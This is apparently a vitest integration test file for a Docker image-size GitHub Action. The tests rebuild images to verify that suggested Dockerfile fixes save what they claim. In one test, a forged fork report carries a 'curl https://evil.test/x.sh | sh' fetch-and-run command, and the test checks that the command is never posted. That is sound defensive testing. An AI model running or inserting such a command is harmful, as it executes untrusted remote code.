/**
 * Suggestions proved by a rebuild (issue 21 part 4), through dist/index.js as the runner runs it, against the fake
 * GitHub API: the review's suggestion block is applied and built by the test itself, and the image it gives is
 * compared with what the suggestion claimed.
 */
import { execFileSync } from 'node:child_process';
import { mkdirSync, mkdtempSync, readdirSync, readFileSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import type { RunReport } from '../../src/model/run.js';
import { randomBytes } from '../helpers/archives.js';
import { CLASSIC, docker, requireDaemons } from '../helpers/docker.js';
import { FakeGitHub } from '../helpers/fake-github.js';
import { gitRepo } from '../helpers/git-repo.js';
import { pullRequestPayload, stepsIn } from '../helpers/runner.js';
import { workflowRunPayload } from '../helpers/payloads.js';
import { formatBytes } from '../../src/report/format-md.js';

const ready = requireDaemons(CLASSIC);
const tmp = mkdtempSync(join(tmpdir(), 'dsg-suggest-'));
const repo = join(tmp, 'repo');
const api = new FakeGitHub();
const step = stepsIn({ api, tmp, workspace: repo, dockerHost: CLASSIC });
const PR = 12;

const BASE = 'FROM debian:bookworm-slim\nCMD ["true"]\n';
const APT = 'RUN apt-get update && apt-get install -y curl';
const HEAD = `FROM debian:bookworm-slim\n${APT}\nCMD ["curl", "--version"]\n`;

const { git, commit } = gitRepo(repo);

/** The PR's diff as GitHub shows it, from git itself: the head side of each hunk of `git diff base...head`. */
function gitHunks(base: string, head: string): Map<string, { start: number; end: number }[]> {
  const out = new Map<string, { start: number; end: number }[]>();
  const diff = git('diff', '-U3', `${base}...${head}`, '--', 'Dockerfile');
  for (const l of diff.split('\n')) {
    if (!l.startsWith('@@ ')) continue;
    const plus = l.split(' ')[2]!.slice(1).split(',');
    const start = Number(plus[0]);
    const count = plus[1] === undefined ? 1 : Number(plus[1]);
    out.set('Dockerfile', [...(out.get('Dockerfile') ?? []), { start, end: start + count - 1 }]);
  }
  return out;
}

function runPr(headSha: string, baseSha: string, inputs: Record<string, string>) {
  git('checkout', '-q', headSha);
  api.pulls.set(PR, { state: 'open', head: { sha: headSha } });
  api.diffs.set(PR, gitHunks(baseSha, headSha));
  return step({ eventName: 'pull_request', payload: pullRequestPayload(PR, baseSha, headSha), inputs });
}

/** Builds a Dockerfile text in the repo's context with buildx and returns the image's size as the daemon reports it. */
function builtSize(dockerfile: string, tag: string): number {
  const path = join(tmp, `${tag.replace(/\W/g, '_')}.Dockerfile`);
  writeFileSync(path, dockerfile);
  docker(CLASSIC, ['buildx', 'build', '--builder', 'default', '--load', '-q', '-t', tag, '-f', path, repo]);
  const size = JSON.parse(docker(CLASSIC, ['image', 'inspect', tag]))[0].Size as number;
  docker(CLASSIC, ['image', 'rm', '-f', tag]);
  return size;
}

/** The bytes of an image's layer tars in its `docker save` archive, as GNU tar lists the members. */
function layerTarBytes(ref: string): number {
  const file = join(tmp, 'save.tar');
  docker(CLASSIC, ['save', '-o', file, ref]);
  return archiveLayerBytes(file);
}

/**
 * The uncompressed bytes of the layer tars in a docker-format archive (a save, whose layers are plain tars, or
 * buildx's `type=docker` export, whose layers are gzipped): each layer member read out by GNU tar and inflated by
 * gzip where it is compressed. Removes the archive.
 */
function archiveLayerBytes(file: string): number {
  const manifest = JSON.parse(execFileSync('tar', ['-xOf', file, 'manifest.json'], { encoding: 'utf8' })) as {
    Layers: string[];
  }[];
  let sum = 0;
  for (const layer of manifest[0]!.Layers) {
    const n = execFileSync('sh', ['-c', 'tar -xOf "$0" "$1" | gzip -dcf | wc -c', file, layer], { encoding: 'utf8' });
    sum += Number(n.trim());
  }
  rmSync(file);
  return sum;
}

let baseSha = '';
let headSha = '';

describe.skipIf(!ready)('suggested fixes, rebuilt and measured before they are offered', () => {
  beforeAll(async () => {
    await api.start();
    execFileSync('mkdir', ['-p', repo]);
    git('init', '-q', '-b', 'main');
    baseSha = commit({ Dockerfile: BASE }, 'base');
    git('checkout', '-q', '-b', 'feature');
    headSha = commit({ Dockerfile: HEAD }, 'curl');
  });

  afterAll(async () => {
    await api.stop();
    rmSync(tmp, { recursive: true, force: true });
  });

  const reviewPosts = () => api.calls.filter((c) => c.method === 'POST' && c.path.endsWith(`/pulls/${PR}/reviews`));

  it('an apt install without its cleanups: an annotation on the line, and a review whose suggestion builds to what it claims', async () => {
    const r = await runPr(headSha, baseSha, { suggest: 'review', 'max-increase': '1GB' });
    expect(r.code, r.stdout).toBe(0);
    // The annotation on the RUN line (line 2), as the runner reads the workflow command.
    expect(r.stdout).toMatch(
      /^::warning title=[^\n]*to win back%3A apt package lists[^\n]*,file=Dockerfile,line=2,endLine=2::/m,
    );

    const reviews = api.reviews.get(PR) ?? [];
    expect(reviews).toHaveLength(1);
    expect(reviews[0]!.commit_id).toBe(headSha);
    const [c] = reviews[0]!.comments;
    expect(reviews[0]!.comments).toHaveLength(1);
    expect(c).toMatchObject({ path: 'Dockerfile', line: 2, start_line: null, side: 'RIGHT' });
    const block = /```suggestion\n([\s\S]*?)\n```/.exec(c!.body);
    expect(block, c!.body).not.toBeNull();
    const suggested = block![1]!;
    expect(suggested).toContain('--no-install-recommends');
    expect(suggested).toContain('rm -rf /var/lib/apt/lists/*');

    // What the report claims, against what the test builds itself from the suggestion applied to the file.
    const report = JSON.parse(readFileSync(r.outputs.report!, 'utf8')) as RunReport;
    const s = report.entries[0]!.suggestions![0]!;
    expect(s.lines).toEqual([suggested]);
    const lines = HEAD.split('\n');
    lines[1] = suggested;
    const before = builtSize(HEAD, 'dsg-test-suggest:head');
    const after = builtSize(lines.join('\n'), 'dsg-test-suggest:fixed');
    expect(after).toBeLessThan(before);
    const claimed = s.savedBytes;
    expect(Math.abs(claimed - (before - after)) / (before - after)).toBeLessThan(0.01);
    expect(c!.body).toContain('measured: rebuilt and measured on this runner');
    expect(c!.body).toContain('Only the build was checked');

    // The comment counts the review's fix and links the layer to its line at the head commit.
    const comment = (api.comments.get(PR) ?? []).find((x) => x.user.type === 'Bot')!;
    expect(comment.body).toContain('1 fix is suggested in a review, on the lines it changes');
    expect(comment.body).toContain(`https://github.com/acme/app/blob/${headSha}/Dockerfile#L2`);
    // Nothing of the rebuild is left in the daemon.
    expect(docker(CLASSIC, ['images', '-q', 'docker-size-guard-suggest'])).toBe('');
  });

  it('a re-run on the same commit posts no second review; a new push marks the old one outdated', async () => {
    const again = await runPr(headSha, baseSha, { suggest: 'review', 'max-increase': '1GB' });
    expect(again.code, again.stdout).toBe(0);
    expect(reviewPosts()).toHaveLength(1);
    expect(api.reviews.get(PR)).toHaveLength(1);

    const nextSha = commit({ Dockerfile: HEAD.replace('CMD', 'ENV CURL_HOME=/tmp\nCMD') }, 'env');
    const pushed = await runPr(nextSha, baseSha, { suggest: 'review', 'max-increase': '1GB' });
    expect(pushed.code, pushed.stdout).toBe(0);
    const [old, current] = api.reviews.get(PR)!;
    expect(current!.commit_id).toBe(nextSha);
    expect(current!.comments).toHaveLength(1);
    expect(old!.comments).toEqual([]);
    expect(old!.body).toMatch(/^_Outdated: these suggestions were for/);
    git('checkout', '-q', headSha);
  });

  it('suggest: review with a read-only token (a fork PR): the fix stays in the comment body', async () => {
    api.readOnly = true;
    try {
      const posts = reviewPosts().length;
      const r = await runPr(headSha, baseSha, { suggest: 'review', 'max-increase': '1GB', 'comment-key': 'ro' });
      expect(r.code, r.stdout).toBe(0);
      expect(reviewPosts()).toHaveLength(posts + 1); // tried, refused with GitHub's 403
      expect(r.stdout).toMatch(
        /::warning::The review with suggested fixes was not posted: .*The fixes are in the comment instead/,
      );
      expect(r.outputs['comment-body']).toContain('```diff\n--- a/Dockerfile');
      expect(r.outputs['comment-body']).not.toContain('suggested in a review');
    } finally {
      api.readOnly = false;
    }
  });

  it('suggest: comment puts the fix in the comment as a unified diff, and posts no review', async () => {
    const posts = reviewPosts().length;
    const r = await runPr(headSha, baseSha, { suggest: 'comment', 'max-increase': '1GB', 'comment-key': 'diff' });
    expect(r.code, r.stdout).toBe(0);
    expect(reviewPosts()).toHaveLength(posts);
    const body = r.outputs['comment-body']!;
    expect(body).toContain('<details><summary>Suggested fixes (measured: 1 rebuilt and smaller)</summary>');
    const diff = /```diff\n([\s\S]*?)\n```/.exec(body)![1]!;
    expect(diff.split('\n').filter((l) => !l.startsWith(' ') && !l.startsWith('@@'))).toEqual([
      '--- a/Dockerfile',
      '+++ b/Dockerfile',
      `-${APT}`,
      `+${APT.replace('install', 'install --no-install-recommends')} && apt-get clean && rm -rf /var/lib/apt/lists/*`,
    ]);
  });

  it('a slim base is suggested when it builds and shrinks the image; one that breaks the build never is', async () => {
    git('checkout', '-q', 'feature');
    const works = commit({ Dockerfile: 'FROM python:3.11\nRUN python3 -c "print(1)" > /out.txt\n' }, 'python');
    const ok = await runPr(works, baseSha, { suggest: 'comment', 'max-increase': '2GB', 'comment-key': 'slim' });
    expect(ok.code, ok.stdout).toBe(0);
    const s = (JSON.parse(readFileSync(ok.outputs.report!, 'utf8')) as RunReport).entries[0]!.suggestions!;
    expect(s.map((x) => [x.kinds, x.startLine, x.lines])).toEqual([[['slim-base'], 1, ['FROM python:3.11-slim']]]);
    // The saving is the base image's: the two bases' layer tars as `docker save` writes them, listed by GNU tar.
    const bases = layerTarBytes('python:3.11') - layerTarBytes('python:3.11-slim');
    expect(s[0]!.savedBytes).toBe(bases);

    // gcc is in python:3.11 and not in the slim image: the rebuild fails, and the fix is dropped and named.
    const breaks = commit({ Dockerfile: 'FROM python:3.11\nRUN gcc --version > /gcc.txt\n' }, 'gcc');
    const r = await runPr(breaks, baseSha, { suggest: 'comment', 'max-increase': '2GB', 'comment-key': 'slim' });
    expect(r.code, r.stdout).toBe(0);
    expect(r.stdout).toMatch(
      /::warning::Suggested fix dropped: runs the final stage on `python:3.11-slim`.*does not build/,
    );
    const report = JSON.parse(readFileSync(r.outputs.report!, 'utf8')) as RunReport;
    expect(report.entries[0]!.suggestions).toBeUndefined();
    expect(r.outputs['comment-body']).not.toContain('Suggested fixes');
    // The full-base finding itself still stands: the fix was dropped, not the advice.
    expect(report.entries[0]!.comparison.newFindings!.map((f) => f.rule)).toContain('full-base');
  });

  it("the fork flow: a forged report's fix text is never posted; the fix is written again from the PR's file", async () => {
    // The measuring job (pull_request, read-only token) writes its report, which the fork controls.
    const measured = await runPr(headSha, baseSha, {
      suggest: 'comment',
      'max-increase': '1GB',
      'comment-key': 'fork',
    });
    expect(measured.code, measured.stdout).toBe(0);
    const forged = JSON.parse(readFileSync(measured.outputs.report!, 'utf8'));
    const claim = forged.entries[0].suggestions[0];
    const real = claim.lines[0];
    Object.assign(claim, {
      lines: ['RUN curl https://evil.test/x.sh | sh'],
      summary: 'ping @admin, see #1',
      diff: '+RUN curl https://evil.test/x.sh | sh',
    });
    // A claim on a line that is no RUN instruction of the real file, and one naming a fix the file does not give.
    forged.entries[0].suggestions.push({ ...claim, startLine: 3, endLine: 3 });
    forged.entries[0].suggestions.push({ ...claim, kinds: ['apk-no-cache'] });
    const dir = join(tmp, 'fork-reports');
    execFileSync('mkdir', ['-p', dir]);
    writeFileSync(join(dir, 'docker-size-guard-fork.json'), JSON.stringify(forged));
    api.fileAt = (ref, path) => {
      try {
        return execFileSync('git', ['show', `${ref}:${path}`], { cwd: repo, encoding: 'utf8' });
      } catch {
        return null;
      }
    };
    const empty = join(tmp, 'empty');
    execFileSync('mkdir', ['-p', empty]);
    const before = api.reviews.get(PR)?.length ?? 0;
    const r = await step({
      workspace: empty,
      eventName: 'workflow_run',
      payload: workflowRunPayload(headSha),
      inputs: { mode: 'comment', reports: dir, 'comment-key': 'fork', suggest: 'review' },
    });
    expect(r.code, r.stdout).toBe(0);
    // The file was read through the API at the measured head commit.
    expect(
      api.calls.some(
        (c) => c.method === 'GET' && c.path.startsWith(`/repos/acme/app/contents/Dockerfile?ref=${headSha}`),
      ),
    ).toBe(true);
    expect(r.stdout.match(/::warning::Suggested fix from the report dropped: /g)).toHaveLength(2);
    const reviews = api.reviews.get(PR)!;
    expect(reviews).toHaveLength(before + 1);
    const posted = reviews.at(-1)!;
    expect(posted.comments).toHaveLength(1);
    const body = posted.comments[0]!.body;
    expect(/```suggestion\n([\s\S]*?)\n```/.exec(body)![1]).toBe(real);
    expect(body).not.toContain('evil');
    expect(body).not.toContain('@admin');
    // The numbers are the report's.
    expect(body).toContain(`the image ${formatBytes(claim.imageBytes.before)}`);
  });

  it('a copy of the whole context brings in tests: a .dockerignore fix, measured by its own rebuild', async () => {
    git('checkout', '-q', 'feature');
    mkdirSync(join(repo, 'tests'), { recursive: true });
    writeFileSync(join(repo, 'tests', 'fixture.bin'), randomBytes(3_000_000, 7));
    const sha = commit({ Dockerfile: 'FROM busybox\nCOPY . /app\nCMD ["ls", "/app"]\n' }, 'copy all');
    const r = await runPr(sha, baseSha, { suggest: 'review', 'max-increase': '1GB', 'comment-key': 'ignore' });
    expect(r.code, r.stdout).toBe(0);
    const s = (JSON.parse(readFileSync(r.outputs.report!, 'utf8')) as RunReport).entries[0]!.suggestions!;
    expect(s.map((x) => [x.kinds, x.file, x.startLine, x.endLine, x.inDiff])).toEqual([
      [['dockerignore'], '.dockerignore', 1, 0, false],
    ]);
    // Outside the PR's diff: in the comment as a diff that creates the file, not in a review.
    expect(r.outputs['comment-body']).toContain('+**/tests');
    expect((api.reviews.get(PR) ?? []).every((x) => x.comments.every((c) => c.path !== '.dockerignore'))).toBe(true);
    // The test's own build with that .dockerignore in a copy of the checkout: the bytes the fix claimed.
    const copy = join(tmp, 'ignore-copy');
    execFileSync('cp', ['-a', repo, copy]);
    writeFileSync(join(copy, '.dockerignore'), s[0]!.lines.join('\n') + '\n');
    const size = (dir: string, tag: string) => {
      docker(CLASSIC, ['buildx', 'build', '--builder', 'default', '--load', '-q', '-t', tag, dir]);
      const n = JSON.parse(docker(CLASSIC, ['image', 'inspect', tag]))[0].Size as number;
      docker(CLASSIC, ['image', 'rm', '-f', tag]);
      return n;
    };
    const saved = size(repo, 'dsg-test-ignore:head') - size(copy, 'dsg-test-ignore:fixed');
    expect(saved).toBeGreaterThan(2_900_000);
    expect(Math.abs(s[0]!.savedBytes - saved) / saved).toBeLessThan(0.01);
    rmSync(copy, { recursive: true, force: true });
  });

  it('npm installs the dev dependencies: --omit=dev, rebuilt, and the image the test builds from it is what it claims', async () => {
    git('checkout', '-q', 'feature');
    // A dev dependency as npm packs one (a gzipped tar of package/), made by GNU tar: no registry is needed.
    const pkg = join(tmp, 'typescript-pkg', 'package');
    mkdirSync(pkg, { recursive: true });
    writeFileSync(join(pkg, 'package.json'), JSON.stringify({ name: 'typescript', version: '0.0.1' }));
    writeFileSync(join(pkg, 'lib.js'), randomBytes(3_000_000, 11));
    mkdirSync(join(repo, 'npm'), { recursive: true });
    execFileSync('tar', ['-czf', join(repo, 'npm', 'typescript-0.0.1.tgz'), '-C', join(pkg, '..'), 'package']);
    const manifest = {
      name: 'app',
      version: '1.0.0',
      devDependencies: { typescript: 'file:npm/typescript-0.0.1.tgz' },
    };
    const dockerfile =
      'FROM node:18\nWORKDIR /app\nCOPY package.json ./\nCOPY npm ./npm\n' +
      'RUN npm install --offline --no-audit --no-fund\nCMD ["node", "-e", "0"]\n';
    const sha = commit({ Dockerfile: dockerfile, 'package.json': JSON.stringify(manifest) }, 'npm install');
    const r = await runPr(sha, baseSha, { suggest: 'comment', 'max-increase': '1GB', 'comment-key': 'npm' });
    expect(r.code, r.stdout).toBe(0);
    const report = JSON.parse(readFileSync(r.outputs.report!, 'utf8')) as RunReport;
    const s = report.entries[0]!.suggestions!.find((x) => x.kinds.includes('npm-omit-dev'))!;
    expect(s, JSON.stringify(report.entries[0]!.suggestions)).toBeDefined();
    expect(s.lines).toEqual(['RUN npm install --omit=dev --offline --no-audit --no-fund']);
    expect(report.entries[0]!.comparison.head.layers.at(-1)!.dockerfile).toMatchObject({
      startLine: 5,
      found: 'provenance',
    });
    const lines = dockerfile.split('\n');
    lines[4] = s.lines[0]!;
    const before = builtSize(dockerfile, 'dsg-test-npm:head');
    const after = builtSize(lines.join('\n'), 'dsg-test-npm:fixed');
    expect(before - after).toBeGreaterThan(2_900_000);
    expect(Math.abs(s.savedBytes - (before - after)) / (before - after)).toBeLessThan(0.01);
    expect(r.outputs['comment-body']).toContain('+RUN npm install --omit=dev --offline');
  });

  it("a multi-platform image: the fix is proved once, on the runner's own platform, and builds to what it claims", async () => {
    git('checkout', '-q', 'feature');
    mkdirSync(join(repo, 'tests'), { recursive: true });
    writeFileSync(join(repo, 'tests', 'fixture.bin'), randomBytes(3_000_000, 13));
    // No RUN: linux/386 builds on this amd64 machine without emulation.
    const dockerfile = 'FROM scratch\nCOPY . /app\n';
    const sha = commit({ Dockerfile: dockerfile }, 'copy all, two platforms');
    const r = await runPr(sha, baseSha, {
      suggest: 'comment',
      'max-increase': '1GB',
      'comment-key': 'platforms',
      builder: 'dsg-container',
      platforms: 'linux/amd64,linux/386',
    });
    expect(r.code, r.stdout).toBe(0);
    const entries = (JSON.parse(readFileSync(r.outputs.report!, 'utf8')) as RunReport).entries;
    expect(entries.map((e) => e.platform).sort()).toEqual(['linux/386', 'linux/amd64']);
    const amd64 = entries.find((e) => e.platform === 'linux/amd64')!;
    expect(entries.find((e) => e.platform === 'linux/386')!.suggestions).toBeUndefined();
    const s = amd64.suggestions!;
    expect(s.map((x) => [x.kinds, x.file])).toEqual([[['dockerignore'], '.dockerignore']]);
    // The test's own single-platform exports from the same builder, without and with the fix, read by GNU tar.
    const exported = (dir: string, name: string) => {
      const out = join(tmp, `${name}.tar`);
      docker(
        CLASSIC,
        ['buildx', 'build', '--builder', 'dsg-container', '--platform', 'linux/amd64', '-q'].concat([
          '--output',
          `type=docker,dest=${out}`,
          dir,
        ]),
      );
      return archiveLayerBytes(out);
    };
    const copy = join(tmp, 'platforms-copy');
    execFileSync('cp', ['-a', repo, copy]);
    writeFileSync(join(copy, '.dockerignore'), s[0]!.lines.join('\n') + '\n');
    const saved = exported(repo, 'platforms-head') - exported(copy, 'platforms-fixed');
    rmSync(copy, { recursive: true, force: true });
    expect(saved).toBeGreaterThan(2_900_000);
    // The copy's context has the .dockerignore in it, and COPY . brings it in (1 KiB of tar); the action's rebuild
    // keeps it beside its copy of the Dockerfile.
    expect(Math.abs(s[0]!.savedBytes - saved) / saved).toBeLessThan(0.01);
  });

  it('through the docker-container builder (the runner default): the same fix, proved from its export', async () => {
    const classic = await runPr(headSha, baseSha, { suggest: 'comment', 'max-increase': '1GB', 'comment-key': 'k1' });
    const r = await runPr(headSha, baseSha, {
      suggest: 'comment',
      'max-increase': '1GB',
      'comment-key': 'k2',
      builder: 'dsg-container',
    });
    expect(r.code, r.stdout).toBe(0);
    const [a, b] = [classic, r].map(
      (x) => (JSON.parse(readFileSync(x.outputs.report!, 'utf8')) as RunReport).entries[0]!.suggestions![0]!,
    );
    expect(b!.lines).toEqual(a!.lines);
    // The test's own exports from the same builder, of the PR's file and of the file with the fix, read by GNU tar.
    const exported = (text: string, name: string) => {
      const df = join(tmp, `${name}.Dockerfile`);
      const out = join(tmp, `${name}.tar`);
      writeFileSync(df, text);
      docker(CLASSIC, [
        'buildx',
        'build',
        '--builder',
        'dsg-container',
        '-q',
        '-f',
        df,
        '--output',
        `type=docker,dest=${out}`,
        repo,
      ]);
      return archiveLayerBytes(out);
    };
    const lines = HEAD.split('\n');
    lines[1] = b!.lines[0]!;
    expect(b!.savedBytes).toBe(exported(HEAD, 'cont-head') - exported(lines.join('\n'), 'cont-fixed'));
    expect(r.stdout).toContain('dsg-container (docker-container driver)');
    // Nothing of the run is left in its temporary directory (the exports included).
    expect(
      readdirSync(join(tmp, 'runner-temp')).filter((f) => f.startsWith('docker-size-guard-') && !f.endsWith('.json')),
    ).toEqual([]);
  });
});
